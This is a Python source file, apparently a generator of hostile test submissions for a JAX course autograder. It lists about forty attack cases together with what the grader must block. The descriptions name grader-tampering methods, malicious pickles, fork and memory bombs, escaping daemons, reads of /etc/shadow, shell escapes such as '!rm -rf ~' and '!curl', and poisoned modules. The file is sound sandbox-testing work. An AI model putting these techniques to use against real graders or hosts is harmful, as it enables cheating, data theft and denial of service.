    append_after_answer(nbs["ch02"], "histogram", [src(DEEP_CELL, case)])


def _h36(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch05"], "ffi_lowering", [src(DISCARDED_CUSTOM_CALL, case)])


def _h37(nbs: dict, case: str) -> None:
    replace_answer(nbs["ch05"], "silu_ffi", [src(COURSE_HANDLER, case)], index=1)


def _one_shot(target: str, how: str) -> Callable[[dict, str], None]:
    def edit(nbs: dict, case: str) -> None:
        text = ONE_SHOT_WRAPPER.replace("{target}", target).replace("{how}", how)
        append_after_answer(nbs["ch05"], "silu_ffi", [src(text, case)])
    return edit


KERNEL_OTHERS = {"reduce_sum_rules": FULL, "gammaln_callback": FULL}

CASES: list[Case] = [
    Case("h01_patch_allclose", "patched comparisons",
         "numpy.allclose / isclose / array_equal / numpy.testing.* / unittest asserts / math.isclose patched "
         "to always pass, builtins.AssertionError swallowed; then wrong histogram, fusion and distance "
         "answers",
         "a wrong answer scores points because some comparison ran next to the student's code",
         ("ch02",), _h01,
         full_except("ch02", {"histogram": ZERO, "fusion": ZERO, "safe_distance": ZERO}),
         "partial:not_submitted:ch05"),
    Case("h02_frame_peeking", "caller frames and heap",
         "sys._getframe chain, inspect.stack() and gc.get_objects() searched for grader modules, frames, "
         "functions and for any array equal to the true distances, everything printed; the report is "
         "raised from safe_pairwise_distance so it reaches the feedback (the heap walk is refused and "
         "counts as tampering: heap=refused is the positive control)",
         "the child finds an expected value, a grader frame or a grader object, or walks the heap unnoticed",
         ("ch02",), _h02,
         full_except("ch02", {"safe_distance": {"score": 0, "status": "tampered"}}), "tampered",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h02_frame_peeking PEEK gf=0 gm=0 go=0 ctl=0 ex=0 heap=refused",
                                " cell gf=0 gm=0 go=0 ctl=0 ex=0 heap=refused", "gc.get_objects"],
                   "absent": []}),
    Case("h03_always_equal", "always-equal objects",
         "interfaces return objects whose __eq__ is always true and whose __class__ pretends to be "
         "Counter / int / tuple; the distance is an object whose __array__ is NaN",
         "an object that merely claims equality or a type earns points",
         ("ch02",), _h03, {ex: ZERO for ex in CH02}, "partial:not_submitted:ch05"),
    Case("h04_pickle", "malicious pickles",
         "pickles whose __reduce__ creates /tmp/jaxgrade_pwned_h04 planted in obs/, scratch and work "
         "(.pkl and object-array .npy), interfaces return pickle-ish objects, and a patched os._exit "
         "rewrites every observation file to reference the pickles after the last flush",
         "anything written by the child is ever unpickled (the marker appears on the host)",
         ("ch02",), _h04,
         {"histogram": ZERO, "recompile": ANY, "fusion": ANY, "safe_distance": ANY},
         "partial:not_submitted:ch05", packaging="zip",
         host_markers=["/tmp/jaxgrade_pwned_h04_pickle"]),
    Case("h05_os_exit", "os._exit",
         "os._exit(0) in the fusion answer cell",
         "the other exercises lose points, or the batch stops",
         ("ch02",), _h05,
         full_except("ch02", {"fusion": {"score": 0, "status": "crashed"}}), "partial:not_submitted:ch05"),
    Case("h06_sigterm_loop", "infinite loop ignoring SIGTERM",
         "signal.signal(SIGTERM/SIGINT/SIGHUP/SIGXCPU, SIG_IGN); while True: pass in the recompile cell",
         "the grader waits for the loop, or other exercises time out",
         ("ch02",), _h06,
         full_except("ch02", {"recompile": {"score": 0, "status": "timeout"}}), "partial:not_submitted:ch05"),
    Case("h07_fork_bomb", "fork bomb",
         "after a correct histogram answer: up to 200 forks, each forking twice more, every process "
         "exec'ing `sh -c 'sleep 300'` (bounded); stops after 10 refusals",
         "the bomb escapes the process limit, costs another exercise, a process survives the job, or "
         "grading stops",
         ("ch02",), _h07,
         full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": [], "absent": [], "matches": [r"BOMB forked=[1-9]\d* refused=[1-9]"]},
         process_markers=["jaxgrade_hostile_h07_fork_bomb"]),
    Case("h08_memory_bomb", "memory bomb",
         "safe_pairwise_distance allocates 256 MiB blocks until the allocator refuses (at most 64, "
         "the first one touched)",
         "the host runs out of memory, or the other exercises are affected",
         ("ch02",), _h08,
         full_except("ch02", {"safe_distance": ZERO}), "partial:not_submitted:ch05",
         feedback={"contains": ["MemoryError"], "absent": []}),
    Case("h09_daemon", "double-forked daemon",
         "the recompile cell double-forks a daemon in its own session that rewrites "
         "/tmp/jaxgrade_daemon_h09_daemon every second for 300 s (pid written to scratch)",
         "the daemon outlives the job or writes to the host's /tmp",
         ("ch02",), _h09, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["HOSTILE-REPORT h09_daemon DAEMON alive=1"], "absent": []},
         host_markers=["/tmp/jaxgrade_daemon_h09_daemon"], process_markers=["jaxgrade_hostile_h09_daemon"]),
    Case("h10_network", "network",
         f"TCP/UDP/IPv6 to every port of 127.0.0.1:{LISTEN_PORTS[0]}-{LISTEN_PORTS[1] - 1} (the test "
         "listens on one), TCP to 1.1.1.1, 8.8.8.8, 10.0.2.2, the cloud metadata address, host unix "
         "sockets, DNS",
         "any connection reaches the listener or anything outside",
         ("ch02",), _h10, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["HOSTILE-REPORT h10_network NET connected=none"], "absent": []},
         listener=True),
    Case("h11_escape_files", "grader files",
         "repository, OUT and SUBMISSIONS paths guessed from sys.prefix, the editable install, "
         "/proc/1/cmdline, /proc/self/mountinfo and /tmp; reads of the hidden checks, masters, release "
         "tests, other students, gradebook, /etc/shadow, /proc/1/environ; imports of the grader "
         "modules; creation of jaxgrade_hostile_* files and write-opens of grades.csv / results.json "
         "in scratch, its parents, /out, /autograder/results, the repository and OUT",
         "a read of a grader file succeeds, or anything outside scratch changes",
         ("ch02",), _h11, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["HOSTILE-REPORT h11_escape_files ESCAPE read=0 escaped=0"], "absent": [],
                   "matches": [r"ESCAPE read=0 escaped=0 inside=[1-9]"]},
         host_markers=["/tmp/jaxgrade_escape_h11_escape_files", "/var/tmp/jaxgrade_escape_h11_escape_files",
                       "/dev/shm/jaxgrade_escape_h11_escape_files"]),
    Case("h12_huge_output", "huge output",
         "about 200 MB printed and written straight to fd 1 and 2, then a 20 MB exception message",
         "the grader stores or shows the output, blocks on a pipe, or runs out of memory",
         ("ch02",), _h12, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["RuntimeError: xxxxxxxxxx"], "absent": []},
         outputs_absent=["JAXGRADE-HOSTILE h12_huge_output JAXGRADE-HOSTILE", "x" * 400]),
    Case("h13_kernel_segfault", "segfaulting kernel",
         "Silu and SiluBwd write through a null pointer and raise SIGSEGV when called",
         "the crash costs other exercises, or the grader fails",
         ("ch05",), _kernel(KERNEL_SEGFAULT),
         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "crashed"}}, "partial:not_submitted:ch02",
         packaging="folder"),
    Case("h14_kernel_hang", "kernel that never returns",
         "Silu and SiluBwd spin forever on a volatile counter",
         "the grader waits forever, or other exercises time out",
         ("ch05",), _kernel(KERNEL_HANG),
         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "timeout"}}, "partial:not_submitted:ch02",
         packaging="folder"),
    Case("h15_kernel_ctor", "library constructor",
         "a correct SiLU whose __attribute__((constructor)) creates jaxgrade_ctor_* files in /tmp, "
         "/var/tmp, /dev/shm, the repository and relative parents, and starts a setsid daemon",
         "a file appears outside scratch, a process survives, or the kernel is loaded outside a sandbox",
         ("ch05",), _kernel(KERNEL_CTOR, after=CTOR_CHECK),
         {**KERNEL_OTHERS, "silu_ffi": FULL}, "partial:not_submitted:ch02", packaging="folder",
         feedback={"contains": ["HOSTILE-REPORT h15_kernel_ctor CTOR sandbox_tmp=1"], "absent": []},
         host_markers=["/tmp/jaxgrade_ctor_h15_kernel_ctor", "/var/tmp/jaxgrade_ctor_h15_kernel_ctor",
                       "/dev/shm/jaxgrade_ctor_h15_kernel_ctor", "/jaxgrade_ctor_h15_kernel_ctor"],
         process_markers=["jaxgrade_hostile_h15_kernel_ctor"]),
    Case("h16_kernel_include", "includes outside the kernel folder",
         '__has_include probes, then #include "../../../autograder/exercises/silu_ffi.py", '
         '#include </work/main/autograder/exercises/silu_ffi.py> and #include "/etc/shadow"',
         "a grader file or /etc/shadow is visible to the compiler or its content reaches the feedback",
         ("ch05",), _kernel(KERNEL_INCLUDE),
         {**KERNEL_OTHERS, "silu_ffi": {"score": 0}}, "partial:not_submitted:ch02", packaging="folder",
         feedback={"contains": ["编译失败", "file not found", "VISIBLE own-source (expected)"],
                   "absent": ["VISIBLE /etc/shadow", "VISIBLE repo", "VISIBLE master", "RTOL_VALUE",
                              "root:", "Exercise `silu_ffi`"]}),
    Case("h17_tamper_jax", "replaced JAX functions",
         "after correct answers: jax.make_jaxpr replaced (histogram cell), jax.stages.Compiled.as_text "
         "and jax.jit replaced by fakes (fusion cell)",
         "an exercise that relies on a replaced function scores points, or the TA is not told",
         ("ch02",), _h17,
         {"histogram": {"score": 0, "status": "tampered"}, "recompile": FULL,
          "fusion": {"score": 0, "status": "tampered"}, "safe_distance": {"score": 0, "status": "tampered"}},
         "tampered", flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["jax.make_jaxpr", "jax.stages.Compiled.as_text"], "absent": []}),
    Case("h18_metadata_points", "tampered metadata",
         "points 1000 and injected tests in cell, notebook and otter metadata, a fake release version, "
         "a student cell tagged as setup and one tagged as self-check (both call os._exit)",
         "points come from the submission, injected tests run, or a student cell runs as setup/self-check",
         ("ch02",), _h18, full_except("ch02", {}), "partial:not_submitted:ch05"),
    Case("h19_magics", "shell escapes and magics",
         "!rm -rf ~ (only where HOME is under /sandbox), !curl, !wget, !cat /etc/shadow, %env, "
         "%env HOME=/, !id, %sx, "
         "get_ipython().system, a %%bash cell that starts 50 background sleeps",
         "a command has an effect outside the sandbox, or a background process survives",
         ("ch02",), _h19, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["HOSTILE-REPORT h19_magics MAGIC ran=1 uid=65"], "absent": []},
         host_markers=["/tmp/jaxgrade_magic_h19_magics", "/jaxgrade_magic_h19_magics"],
         process_markers=["jaxgrade_hostile_h19_magics"]),
    Case("h20_symlinks", "links and FIFOs in scratch",
         "observation files and an input file replaced by links to /etc/passwd, /etc/shadow and "
         "/proc/self/fd/0; progress.jsonl replaced by a FIFO nobody writes",
         "the parent follows a link, blocks on the FIFO or on its own stdin, or reads a host file",
         ("ch02",), _h20, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["progress.jsonl"], "absent": [],
                   "matches": [r"LINKS planted=recompile\.json,fusion\.json,safe_distance\.json"]},
         outputs_absent=["root:x:0:0", "/bin/bash"]),
    Case("h21_poison_modules", "poisoned modules",
         "sys.modules['numpy'] and ['json'] replaced by fakes; numpy.py, json.py, sitecustomize.py "
         "and usercustomize.py planted in the working folder, scratch and tmp",
         "the fakes change what the child reports without the tamper check noticing, or a later "
         "process imports the planted modules",
         ("ch02",), _h21,
         {"histogram": {"score": 0, "status": "tampered"}, "recompile": {"score": 0, "status": "tampered"},
          "fusion": {"score": 0, "status": "tampered"}, "safe_distance": {"score": 0, "status": "tampered"}},
         "tampered", flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["numpy.save"], "absent": []}),
    Case("h22_forged_observations", "observations edited on their way to disk",
         "gammaln_cb computed with JAX's own lgamma/digamma (no pure_callback); pathlib.Path.write_text and "
         "builtins.open (what the observation writer used to call) and os.write wrapped to edit "
         "gammaln_callback's record so the output seems to depend on pure_callback; a later cell reports how "
         "many writer calls the wrappers saw",
         "the wrappers see or change what the child reports (the writer binds what it needs before student "
         "code runs and streams each record to the parent)",
         ("ch05",), _forged_gammaln(FORGE, FORGE_REPORT),
         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0, "status": "gate_failed"}, "silu_ffi": FULL},
         "partial:not_submitted:ch02", packaging="folder",
         feedback={"contains": ["HOSTILE-REPORT h22_forged_observations WRITER calls=0"], "absent": []}),
    Case("h22b_forge_profile_hook", "observations edited by a profile hook",
         "no pure_callback; a sys.setprofile hook set in the answer cell edits the writer's `value` argument "
         "when gammaln_callback's jaxpr names are recorded, then removes itself",
         "the edited names are believed, or the hook goes unreported",
         ("ch05",), _forged_gammaln(FORGE_PROFILE, FORGE_PROFILE_REPORT),
         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0, "status": "tampered"}, "silu_ffi": FULL},
         "tampered", packaging="folder", flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h22b_forge_profile_hook PROFILE edits=2", "sys.setprofile"],
                   "absent": []}),
    Case("h22c_forge_thread", "observations overwritten by a background thread",
         "no pure_callback; a thread started in the answer cell finds the Recorder in the probe's frames "
         "(sys._current_frames) and overwrites gammaln_callback's jaxpr names in rec.values while the probe "
         "runs (bounded: 20 s)",
         "the overwritten names are believed, or the thread goes unreported",
         ("ch05",), _forged_gammaln(FORGE_THREAD, FORGE_THREAD_REPORT),
         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0, "status": "tampered"}, "silu_ffi": FULL},
         "tampered", packaging="folder", flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h22c_forge_thread THREAD writes=2", "threading",
                                "observation written from untrusted code"], "absent": []}),
    Case("h22d_forge_gc_recorder", "the Recorder found on the heap or in the frames",
         "no pure_callback; every call of gammaln_cb looks for the Recorder with gc.get_objects(), falls "
         "back to the caller frames, and overwrites gammaln_callback's jaxpr names",
         "the heap walk works, the overwritten names are believed, or either goes unreported",
         ("ch05",), _forged_gammaln(FORGE_GC, FORGE_GC_REPORT),
         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0, "status": "tampered"}, "silu_ffi": FULL},
         "tampered", packaging="folder", flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h22d_forge_gc_recorder GC gc=refused forged=yes",
                                "gc.get_objects", "observation written from untrusted code"], "absent": []}),
    Case("h22e_forge_vanishing_hook", "a profile hook that is gone before any check",
         "no pure_callback; gammaln_cb sets a sys.setprofile hook while the probe calls it; the hook edits "
         "the writer's argument for the jaxpr names and removes itself in the same event",
         "the edited names are believed because no check ever sees the hook installed",
         ("ch05",), _forged_gammaln(FORGE_VANISHING),
         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0, "status": "tampered"}, "silu_ffi": FULL},
         "tampered", packaging="folder", flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["sys.setprofile"], "absent": []}),
    Case("h22f_fake_callback_primitive", "primitives named pure_callback",
         "no pure_callback and no tampering: gammaln_cb binds two primitives of its own named "
         "\"pure_callback\" (impl, abstract eval, lowering and batching from JAX's lgamma/digamma)",
         "a structural gate is passed by a name instead of the real jax.pure_callback (caught: the probe "
         "compares primitive objects and reports pure_callback(impostor))",
         ("ch05",), _forged_gammaln(FAKE_PRIMITIVE),
         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0}, "silu_ffi": FULL},
         "partial:not_submitted:ch02", packaging="folder",
         feedback={"contains": ["impostor"], "absent": []}),
    Case("h23_writefile_typo", "a %%writefile line IPython refuses",
         "the C++ cell starts with `%%writefile silu.cc  # kernel` (a comment after the file name), which "
         "IPython refuses with a UsageError",
         "the grader fails on the line instead of telling the student (a grader_error is a dodged zero)",
         ("ch05",), _h23, {**KERNEL_OTHERS, "silu_ffi": {"score": 0}}, "partial:not_submitted:ch02",
         packaging="folder", feedback={"contains": ["%%writefile silu.cc  # kernel"], "absent": []}),
    Case("h24_deep_json", "deeply nested JSON on the child's channels",
         "a progress line and an observation frame (written straight into the stream socket) holding JSON "
         "nested 50,000 deep",
         "the parent's JSON parser raises RecursionError (a grader_error)",
         ("ch02",), _h24, full_except("ch02", {"histogram": {"score": 0, "status": "tampered"}}), "tampered",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h24_deep_json DEEP stream_fd=", "observation stream"],
                   "absent": ["stream_fd=-1"]}),
    Case("h24b_empty_error_frame", "error entries without a message, sent from a gc callback",
         "the recompile cell registers a gc callback (threshold 1) that writes put frames straight into the "
         "stream socket while the probe runs: type_name as an error entry whose message is empty",
         "a verdict reading the error's last line raises IndexError (a grader_error)",
         ("ch02",), _h24b,  # frames the callback sends later count against the exercise then running
         full_except("ch02", {"recompile": {"score": 0, "status": "tampered"}, "fusion": ANY, "safe_distance": ANY}),
         "tampered",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["frames the grader did not write"], "absent": []}),
    Case("h25_kernel_wipes_progress", "a kernel constructor that rewrites the progress file",
         "a correct SiLU whose library constructor, in the kernel child, empties progress.jsonl right after "
         "the child wrote \"ready\" and writes a setup_error line instead",
         "the parent never sees \"ready\" and calls it a grader fault, or believes the forged setup error",
         ("ch05",), _kernel(KERNEL_WIPES_PROGRESS), {**KERNEL_OTHERS, "silu_ffi": FULL},
         "partial:not_submitted:ch02", packaging="folder"),
    Case("h26_kernel_forges_observations", "a kernel destructor that rewrites the kernel observations",
         "a correct SiLU whose library destructor, when the kernel child exits, replaces "
         "silu_ffi.kernel.json with JSON nested 50,000 deep",
         "the parent's JSON parser raises RecursionError (a grader_error), or the forged file is read as the "
         "kernel's observations. The kernel child leaves with os._exit after its last report, so library "
         "destructors never run and the correct kernel keeps its full marks (were the file replaced, the "
         "bounded reader refuses it: tests/test_untrusted_input.py)",
         ("ch05",), _kernel(KERNEL_FORGES_OBSERVATIONS), {**KERNEL_OTHERS, "silu_ffi": FULL},
         "partial:not_submitted:ch02", packaging="folder"),
    Case("h27_forged_setup_error", "a forged release setup error",
         "the first answer cell takes the run's token from the child's frames, empties progress.jsonl before "
         "the parent read \"ready\" and writes a setup_error line with the token; then answers correctly",
         "the parent reports a failing release setup (a grader_error) after student code ran",
         ("ch02",), _h27, full_except("ch02", {"histogram": H27_HISTOGRAM}), "partial:not_submitted:ch05"),
    Case("h28_stream_flood", "a flood of small observation frames",
         "about 100 MB of small frames written straight into the stream socket: puts for an exercise that "
         "does not exist and end frames repeated",
         "the grader keeps what the frames cost (its memory grows with the flood) or the exercise goes on",
         ("ch02",), _h28, full_except("ch02", {"histogram": {"score": 0, "status": "malformed_output"}}),
         "partial:not_submitted:ch05"),
    Case("h29_ctypes_ch02", "native calls in chapter 2",
         "after a correct histogram answer: a libc call through ctypes.CDLL, an object's memory read with "
         "from_address and string_at",
         "native calls go unreported (with them a chapter-2 answer can rewrite the child's tripwire)",
         ("ch02",), _h29, full_except("ch02", {"histogram": {"score": 0, "status": "tampered"}}), "tampered",
         flags={"has": ["tampered"], "lacks": []}, feedback={"contains": ["ctypes"], "absent": []}),
    Case("h31_surrogate_source", "lone surrogates in a notebook's text",
         "JSON escapes of lone surrogates (\\ud800, \\udfff, \\udc80) in a student-added cell's source and in "
         "the notebook's metadata (its jaxgrade.release among them)",
         "the content hash, the gradebook (SQLite), feedback.md/html or results.json fail to encode the text "
         "(a grader_error)",
         ("ch02",), _h31, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["2026-fall\ufffd"], "absent": []}),
    Case("h31b_surrogate_runtime", "lone surrogates in printed output and exception text",
         "a student-added cell prints chr(0xD800) and raises an exception whose message holds chr(0xDC80)",
         "the cell's error note reaches the gradebook and feedback as text no encoder accepts (a grader_error)",
         ("ch02",), _h31b, full_except("ch02", {}), "partial:not_submitted:ch05",
         feedback={"contains": ["HOSTILE-REPORT h31b_surrogate_runtime SURROGATE \ufffd end"], "absent": []}),
    Case("h32_float_escape", "the wire's NaN/Inf escape holding no number",
         "put frames written straight into the stream socket whose JSON entries are {\"float\": \"not a number\"} "
         "and {\"float\": [1]}",
         "the observation reader's float() raises ValueError or TypeError (a grader_error)",
         ("ch02",), _h32, full_except("ch02", {"histogram": {"score": 0, "status": "tampered"}}), "tampered",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h32_float_escape ESCAPE stream_fd=", "observation stream"],
                   "absent": ["stream_fd=-1"]}),
    Case("h32b_huge_count", "a count too large for a float",
         "fusion_report returns (10**400, 10**400): the real writer sends the integers as they are",
         "the verdict's float() or number format raises OverflowError (a grader_error)",
         ("ch02",), _h32b, full_except("ch02", {"fusion": {"score": "<full"}}), "partial:not_submitted:ch05"),
    Case("h33_frame_dtype", "array frames numpy cannot read",
         "array put frames written straight into the stream socket: dtype \"f3\" (passes the frame's pattern, "
         "not numpy.dtype) and shape [2**40, 2**40, 0] for an empty payload (the sizes agree, reshape does not)",
         "numpy's TypeError or ValueError escapes the stream reader (a grader_error)",
         ("ch02",), _h33, full_except("ch02", {"histogram": {"score": 0, "status": "tampered"}}), "tampered",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["HOSTILE-REPORT h33_frame_dtype FRAMES stream_fd=", "observation stream"],
                   "absent": ["stream_fd=-1"]}),
    Case("h34_zip_path_conflict", "a zip with a file and a folder of the same name",
         "the zip holds notes.h and notes.h/notes.h next to the chapter 2 notebook",
         "placing the extra files in the child's folder fails (a grader_error)",
         ("ch02",), lambda nbs, case: None, full_except("ch02", {}), "partial:not_submitted:ch05", packaging="zip",
         extra_members={"notes.h": b"// HOSTILE h34: a header\n", "notes.h/notes.h": b"// HOSTILE h34: inside\n"},
         feedback={"contains": ["notes.h/notes.h"], "absent": []}),
    Case("h35_deep_cell", "a cell too deep for the parent's ast",
         "a student-added cell without metadata holding `_deep = 1+1+...` with 3,000 terms",
         "the cell mapping's ast walk raises RecursionError (a grader_error)",
         ("ch02",), _h35, full_except("ch02", {}), "partial:not_submitted:ch05"),
    Case("h30_cpu_hog", "CPU hog next to the other students of the batch",
         "after a correct recompile answer: three CPU-bound processes for up to three minutes each, "
         "after trying os.nice(19) and pinning itself to CPU 0 (which would make its own timeout look "
         "like starvation by the machine)",
         "the hog's neighbours in the batch lose marks or time out (their limits are judged on the CPU "
         "they got), the hog outlives its CPU budget, or it escapes its timeout as a grader fault",
         ("ch02",), _h30,
         full_except("ch02", {"recompile": {"score": 0, "status": "timeout"}}), "partial:not_submitted:ch05",
         process_markers=[]),
    Case("h36_ffi_discarded_call", "FFI custom call whose result is thrown away",
         "ffi_lowering's lowering emits custom_call @rms_norm and discards it; the values come from jnp "
         "RMSNorm lowered next to it (eager, jit and vmap alike)",
         "points for ffi_lowering although no value came out of the rms_norm kernel (caught: every value "
         "case must be the kernel's output bit for bit)",
         ("ch05",), _h36,
         {**KERNEL_OTHERS, "silu_ffi": FULL, "ffi_lowering": {"score": 0, "status": "gate_failed"}},
         "partial:not_submitted:ch02", packaging="folder",
         feedback={"contains": ["不是 rms_norm 内核算出来的"], "absent": []}),
    Case("h37_ffi_course_handler", "course handler under the student's target names",
         "silu_ffi registers the course's RmsNorm handler as silu and silu_bwd, calls it on a constant "
         "(times 0) and computes SiLU and its gradient with jnp; the correct silu.cc is never called",
         "points for the notebook's silu_ffi values although they did not come out of the student's "
         "handler (caught: they must be its output on the same inputs bit for bit)",
         ("ch05",), _h37,
         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "gate_failed"}},
         "partial:not_submitted:ch02", packaging="folder",
         feedback={"contains": ["不是你的 Silu 内核算出来的"], "absent": []}),
    Case("h38_one_shot_class_wrapper", "one-shot wrapper over a relied-on method",
         "after a correct silu_ffi: its first call during the probe replaces jax.stages.Compiled.as_text "
         "by a wrapper that puts the original back when the probe first uses it",
         "the wrapper goes unnoticed because the relied-on names are only compared before and after the "
         "probe (caught: the class namespace is watched while the probe runs)",
         ("ch05",), _one_shot("jax.stages.Compiled.as_text", "class"),
         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "tampered"}}, "tampered", packaging="folder",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["jax._src.stages.Compiled changed while the probe ran"], "absent": []}),
    Case("h39_one_shot_module_wrapper", "one-shot wrapper written into a module namespace",
         "after a correct silu_ffi: its first call during the probe writes a wrapper over jax.jit straight "
         "into vars(jax) (no setattr, no audit event); the wrapper puts the original back when first used",
         "the wrapper goes unnoticed (caught: the module's namespace dict is watched while the probe runs)",
         ("ch05",), _one_shot("jax.jit", "module"),
         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "tampered"}}, "tampered", packaging="folder",
         flags={"has": ["tampered"], "lacks": []},
         feedback={"contains": ["jax changed while the probe ran"], "absent": []}),
    Case("h40_kernel_ctor_nproc", "library constructor at the process limit",
         "a correct SiLU whose constructor, in the kernel child only, forks sleepers until the process "
         "limit refuses (at most 400) and holds them 20 s, while the notebook child starts beside it",
         "the notebook child cannot start its threads (a grader fault the student chose), or a "
         "sleeper survives",
         ("ch05",), _kernel(KERNEL_CTOR_NPROC),
         # the kernel child's own threads meet its own limit: its crash is the student's (any score)
         {**KERNEL_OTHERS, "silu_ffi": ANY}, "partial:not_submitted:ch02", packaging="folder",
         host_markers=["/tmp/jaxgrade_ctor_h40_kernel_ctor_nproc"],
         process_markers=["jaxgrade_hostile_h40_kernel_ctor_nproc"]),
    Case("h41_job_memory_share", "memory beyond the job's share",
         "after a correct histogram answer: three fresh interpreters each touch 3 GiB (9 GiB together, "
         "each far below RLIMIT_AS) and hold it 30 s",
         "the host's OOM killer acts (another job may die, a grader fault), or the other exercises are "
         "affected",
         ("ch02",), _h41,
         full_except("ch02", {"histogram": {"score": 0, "status": "memory"}}), "partial:not_submitted:ch05",
         process_markers=["jaxgrade_hostile_h41_job_memory_share"]),
]


# --------------------------------------------------------------------------------------------


def pick_release(arg: Path | None) -> Path:
    if arg is not None:
        return arg
    found = sorted(p.parent for p in (REPO / "assignments").glob("*/manifest.json"))
    if not found:
        raise SystemExit("no release under assignments/")
    return found[-1]


def expected_doc(case: Case, entry: str) -> dict[str, Any]:
    return {
        "case": case.id,
        "title": case.title,
        "attack": case.attack,
        "must_not": case.must_not,
        "submission": entry,
        "exercises": case.exercises,
        "status": case.status,
        "flags": case.flags,
        "feedback": case.feedback,
        "outputs_absent": [*ALWAYS_ABSENT, *case.outputs_absent],
        "host_markers": case.host_markers,
        "process_markers": case.process_markers,
        "listener": case.listener,
    }


def write_case(case: Case, out: Path, released: dict[str, dict], full: dict[str, dict],
               names: dict[str, str], released_root: Path) -> None:
    nbs = {ch: copy.deepcopy(full[ch]) for ch in case.chapters}
    case.edit(nbs, case.id)
    if "ch02" in nbs:  # every student has their own recompile sequence: answer the one of this id
        own = f"predicted_compiles = {correct_prediction(case.id, released_root)}"
        for cell in nbs["ch02"]["cells"]:
            if cell["cell_type"] == "code":
                src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                if "predicted_compiles = 4" in src:
                    cell["source"] = src.replace("predicted_compiles = 4", own)
    folder = out / case.id
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    if case.packaging == "ipynb":
        (ch,) = case.chapters
        entry = f"{case.id}.ipynb"
        (folder / entry).write_bytes(dumps(nbs[ch]))
    elif case.packaging == "folder":
        entry = case.id
        (folder / entry).mkdir()
        for ch, nb in nbs.items():
            (folder / entry / names[ch]).write_bytes(dumps(nb))
    elif case.packaging == "zip":
        entry = f"{case.id}.zip"
        members = {f"homework/{names[ch]}": dumps(nb) for ch, nb in nbs.items()}
        members.update({f"homework/{name}": data for name, data in case.extra_members.items()})
        write_zip(folder / entry, members)
    else:
        raise SystemExit(f"unknown packaging {case.packaging}")
    doc = expected_doc(case, entry)
    text = json.dumps(doc, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
    (folder / "expected.json").write_text(text, encoding="utf-8")


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--release", type=Path, default=None)
    p.add_argument("--solutions", type=Path, default=REPO / "solutions")
    p.add_argument("--out", type=Path, default=Path(__file__).resolve().parent)
    p.add_argument("--only", default=None, help="comma-separated case ids (default: all)")
    args = p.parse_args(argv)
    rel = ReleaseInfo.load(pick_release(args.release))
    masters = find_masters(args.solutions)
    released = {ch: json.loads(path.read_text(encoding="utf-8")) for ch, path in rel.notebooks.items()}
    full = {ch: solved(released[ch], masters[ch].answer_sources) for ch in CHAPTERS}
    names = {ch: path.name for ch, path in rel.notebooks.items()}
    wanted = set(args.only.split(",")) if args.only else None
    ids = [c.id for c in CASES]
    if len(set(ids)) != len(ids):
        raise SystemExit("duplicate case ids")
    args.out.mkdir(parents=True, exist_ok=True)
    if wanted is None:  # a full run removes folders of cases that no longer exist
        for stale in args.out.iterdir():
            if stale.is_dir() and stale.name[:1] == "h" and stale.name not in ids:
                shutil.rmtree(stale)
    n = 0
    for case in CASES:
        if wanted is None or case.id in wanted:
            write_case(case, args.out, released, full, names, rel.root)
            n += 1
    print(f"wrote {n} hostile cases to {args.out} from release {rel.version}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
